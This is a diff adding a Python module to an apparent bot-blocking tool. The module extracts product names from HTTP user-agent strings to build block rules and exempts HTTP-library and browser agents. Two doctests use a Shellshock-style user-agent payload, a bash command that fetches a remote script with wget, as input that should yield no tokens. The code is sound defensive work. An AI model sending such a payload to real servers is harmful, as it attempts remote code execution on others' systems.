@@ -1,0 +1,142 @@
+"""What a user agent says about itself: whether it declares a bot, and the product names it carries.
+
+Why: an unknown crawler's addresses rotate, the name it gives itself does not. An agent that
+declares itself a bot (a bot/crawler/spider/fetcher word, a ``+http`` URL, a contact address)
+can be blocked by that name from its next address too. Agents people and legitimate
+integrations share are never such a name: browser-like agents, absent agents and app runtimes
+or HTTP libraries (:data:`SHARED_AGENT_TOKENS`); they are blocked by address only.
+
+A *product name* is the name of a ``name/version`` pair, the host of a URL or the domain of a
+contact address: the parts of an agent its author chose to identify it, as opposed to prose,
+versions and platform words. Rules and rule candidates are only ever made of product names
+that :func:`~botguard.decide._safety.safe_ua_token` accepts. Agents are read as the client sent
+them (log escapes such as ``\\x22`` decoded first).
+"""
+
+from __future__ import annotations
+
+import re
+from functools import lru_cache
+
+from botguard.decide._safety import safe_ua_token
+from botguard.judge.verdict import BROWSER_RE
+from botguard.logs.escapes import unescape
+
+__all__ = [
+    "SHARED_AGENT_TOKENS", "candidate_tokens", "declares_bot", "library_agent", "product_names",
+    "rule_tokens", "shared_agent",
+]  # fmt: skip
+
+#: App runtimes and HTTP libraries (lower-case substrings): people's phone apps and legitimate
+#: integrations send these agents, so one offender's agent says nothing about the next client.
+SHARED_AGENT_TOKENS: tuple[str, ...] = (
+    "cfnetwork", "okhttp", "dalvik", "python-requests", "python-urllib", "python-httpx", "aiohttp",
+    "go-http-client", "java/", "apache-httpclient", "commons-httpclient", "libcurl", "curl/", "wget/",
+    "node-fetch", "axios/", "undici", "guzzlehttp", "faraday", "ruby", "reqwest", "dart:io", "alamofire",
+    "postmanruntime", "winhttp", "wininet", "microsoft-cryptoapi",
+)  # fmt: skip
+
+_BROWSER = re.compile(BROWSER_RE)
+_BOT_WORD = re.compile(r"(?:bot|crawler|spider|fetcher|scraper)(?![a-z])", re.IGNORECASE)
+_BOT_URL = re.compile(r"\+\s*https?://", re.IGNORECASE)
+_DOMAIN = r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,63})(?![a-z0-9.-]*@)"
+_CONTACT = re.compile(r"[a-z0-9._%+-]+@" + _DOMAIN, re.IGNORECASE | re.ASCII)
+_URL_HOST = re.compile(r"https?://(?:[^/@\s]+@)?" + _DOMAIN, re.IGNORECASE | re.ASCII)
+_NAME_VERSION = re.compile(r"(?<![\w.-])([a-z][\w.-]*?[a-z0-9_])\s?/\s?v?\d", re.IGNORECASE | re.ASCII)
+
+
+def library_agent(agent: str) -> bool:
+    """An app runtime's or HTTP library's agent: people's apps and integrations send it too.
+
+    Examples:
+        >>> [library_agent(a) for a in ("MyApp/3.1 CFNetwork/1404.0.5 Darwin/22.3.0", "EvilBot/1.0")]
+        [True, False]
+    """
+    low = unescape(agent).lower()
+    return any(token in low for token in SHARED_AGENT_TOKENS)
+
+
+def shared_agent(agent: str) -> bool:
+    """A browser-like, absent, app-runtime or HTTP-library agent (many unrelated clients send it).
+
+    Examples:
+        >>> [shared_agent(a) for a in ("", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101", "EvilBot/1.0")]
+        [True, True, False]
+    """
+    decoded = unescape(agent).strip()
+    return not decoded or bool(_BROWSER.match(decoded)) or library_agent(agent)
+
+
+def declares_bot(agent: str) -> bool:
+    """The agent says it is a bot (word, ``+http`` URL or contact address) and is not a shared one.
+
+    Examples:
+        >>> declares_bot("EvilBot/1.0"), declares_bot("novascrape/2.0 (+https://nova.example)")
+        (True, True)
+        >>> [declares_bot(a) for a in ("okhttp/4.9.2 bot", "curl/8.5.0", "Mozilla/5.0 (X11; Linux) Gecko")]
+        [False, False, False]
+    """
+    if shared_agent(agent):
+        return False
+    decoded = unescape(agent)
+    return bool(_BOT_WORD.search(decoded) or _BOT_URL.search(decoded) or _CONTACT.search(decoded))
+
+
+@lru_cache(maxsize=65536)
+def product_names(agent: str) -> tuple[str, ...]:
+    """Names of ``name/version`` pairs, then URL hosts, then contact domains, each once, in order.
+
+    Examples:
+        >>> product_names("Mozilla/5.0 (compatible; EvilBot/1.0; +http://Evil.example/bot; ops@evil.example)")
+        ('Mozilla', 'EvilBot', 'evil.example')
+        >>> product_names("Expanse, a Palo Alto Networks company, searches the global IPv4 space. "
+        ...               "scaninfo@paloaltonetworks.com")
+        ('paloaltonetworks.com',)
+        >>> product_names(r"() { :; }; /bin/bash -c \\x22wget http://198.51.100.7/x.sh\\x22")
+        ()
+    """
+    decoded = unescape(agent)
+    found = [m.group(1) for m in _NAME_VERSION.finditer(decoded)]
+    found += [m.group(1).lower() for m in _URL_HOST.finditer(decoded)]
+    found += [m.group(1).lower() for m in _CONTACT.finditer(decoded)]
+    first: dict[str, str] = {}
+    for name in found:
+        first.setdefault(name.lower(), name)
+    return tuple(first.values())
+
+
+def rule_tokens(agent: str) -> tuple[str, ...]:
+    """The product names a rule may block this agent by, best first: safe ones, bot-word names first.
+
+    Examples:
+        >>> rule_tokens("Mozilla/5.0 (compatible; EvilBot/1.0; +http://evil.example/bot)")
+        ('EvilBot', 'evil.example')
+        >>> rule_tokens("Scanner/1.0 (+https://crawl.novascrape.io/about)"), rule_tokens("Client/1.0 bot")
+        (('crawl.novascrape.io',), ())
+    """
+    names = [name for name in product_names(agent) if safe_ua_token(name)]
+    return tuple(sorted(names, key=lambda name: not _BOT_WORD.search(name)))
+
+
+@lru_cache(maxsize=65536)
+def candidate_tokens(agent: str) -> frozenset[str]:
+    """:func:`rule_tokens` lower-cased: the only values a user-agent rule candidate for this agent may
+    take; none for an app runtime's or HTTP library's agent (its names are everyone's). A bot's own
+    name inside a browser-like agent may be one: the reference corpus keeps out browsers' names.
+
+    Examples:
+        >>> sorted(candidate_tokens("Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot)"))
+        ['novascrape', 'novascrape.example']
+        >>> candidate_tokens(r"() { :; }; /bin/bash -c \\x22wget http://198.51.100.7/x.sh\\x22")
+        frozenset()
+        >>> candidate_tokens("Expanse, a Palo Alto Networks company, searches the global IPv4 space v1.1.0")
+        frozenset()
+        >>> candidate_tokens("python-requests/2.31.0"), candidate_tokens("Go-http-client/1.1")
+        (frozenset(), frozenset())
+        >>> sorted(candidate_tokens("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+        ...                         "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"))
+        ['bytedance.com']
+    """
+    if library_agent(agent):
+        return frozenset()
+    return frozenset(token.lower() for token in rule_tokens(agent))
